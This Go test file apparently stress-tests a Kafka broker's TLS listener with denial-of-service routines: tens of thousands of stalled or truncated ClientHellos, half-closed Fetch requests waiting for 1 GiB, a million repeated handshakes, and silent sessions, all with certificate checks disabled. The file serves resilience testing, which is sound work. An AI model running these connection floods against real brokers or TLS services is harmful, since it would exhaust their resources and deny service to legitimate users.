package attacks

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kmsg"
)

// untrusting returns the TLS configuration of attackers, which verify no certificate.
func untrusting() *tls.Config {
	return &tls.Config{InsecureSkipVerify: true} //nolint:gosec // the server under attack need not prove its name
}

// crowd calls run with a new connection from another address than the bystander's, in 50 goroutines, until as many connections were opened or the
// attack's time is over. The connections stay open until the time is over.
func crowd(t *testing.T, bootstrap string, connections int, run func(conn net.Conn) bool) string {
	t.Helper()
	var all sync.WaitGroup
	var opened, kept atomic.Int64
	over := time.Now().Add(attackTime)
	from := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}, Timeout: time.Second}
	for range 50 {
		all.Go(func() {
			for time.Now().Before(over) && opened.Add(1) <= int64(connections) {
				conn, err := from.Dial("tcp", bootstrap)
				if err != nil {
					time.Sleep(10 * time.Millisecond) // sleeps: before the next attempt
					continue
				}
				_ = conn.SetDeadline(over)
				time.AfterFunc(time.Until(over), func() { _ = conn.Close() })
				if run(conn) {
					kept.Add(1)
				}
			}
		})
	}
	all.Wait()
	time.Sleep(time.Until(over)) // sleeps: the attack
	return fmt.Sprintf("%d connections opened, %d as meant", min(opened.Load(), int64(connections)), kept.Load())
}

// stallHandshakes opens connections that send a ClientHello and then neither read nor write. Every second ClientHello lacks its last byte.
func stallHandshakes(t *testing.T, bootstrap string) string {
	t.Helper()
	hello := clientHello()
	var n atomic.Int64
	return crowd(t, bootstrap, 20_000, func(conn net.Conn) bool {
		_, err := conn.Write(hello[:len(hello)-int(n.Add(1)%2)])
		return err == nil
	})
}

// clientHello returns the first record of a TLS client.
func clientHello() []byte {
	client, server := net.Pipe()
	defer server.Close()
	go func() {
		defer client.Close()
		_ = tls.Client(client, untrusting()).Handshake()
	}()
	first := make([]byte, 16<<10)
	n, _ := server.Read(first)
	return first[:n]
}

// halfClose sends a Fetch that waits for 1 GiB of records, and closes the sending side of TLS. On every second connection, it closes that of TCP too.
func halfClose(t *testing.T, bootstrap string) string {
	t.Helper()
	in := kmsg.NewPtrFetchRequest()
	in.MaxWaitMillis, in.MinBytes, in.MaxBytes, in.SessionEpoch = 300_000, 1<<30, 1<<20, -1
	topic := kmsg.NewFetchRequestTopic()
	topic.Topic = bystanders
	partition := kmsg.NewFetchRequestTopicPartition()
	partition.FetchOffset, partition.PartitionMaxBytes, partition.CurrentLeaderEpoch = 0, 1, -1
	topic.Partitions = append(topic.Partitions, partition)
	in.Topics = append(in.Topics, topic)
	in.SetVersion(11)
	frame := kmsg.NewRequestFormatter(kmsg.FormatterClientID("attacker")).AppendRequest(nil, in, 1)
	var n atomic.Int64
	return crowd(t, bootstrap, 20_000, func(conn net.Conn) bool {
		secured := tls.Client(conn, untrusting())
		if _, err := secured.Write(frame); err != nil {
			return false
		}
		err := secured.CloseWrite()
		if n.Add(1)%2 == 0 {
			_ = conn.(*net.TCPConn).CloseWrite()
		}
		return err == nil
	})
}

// handshakes repeats whole handshakes, and discards the connections.
func handshakes(t *testing.T, bootstrap string) string {
	t.Helper()
	return crowd(t, bootstrap, 1_000_000, func(conn net.Conn) bool {
		defer conn.Close()
		return tls.Client(conn, untrusting()).Handshake() == nil
	})
}

// secureSilence opens up to 20,000 connections, which stay silent after the handshake and one request.
func secureSilence(t *testing.T, bootstrap string) string {
	t.Helper()
	in := kmsg.NewPtrApiVersionsRequest()
	in.SetVersion(0)
	frame := kmsg.NewRequestFormatter(kmsg.FormatterClientID("attacker")).AppendRequest(nil, in, 1)
	return crowd(t, bootstrap, 20_000, func(conn net.Conn) bool {
		secured := tls.Client(conn, untrusting())
		_, err := secured.Write(frame)
		if err == nil {
			_, err = io.ReadFull(secured, make([]byte, 4))
		}
		return err == nil
	})
}
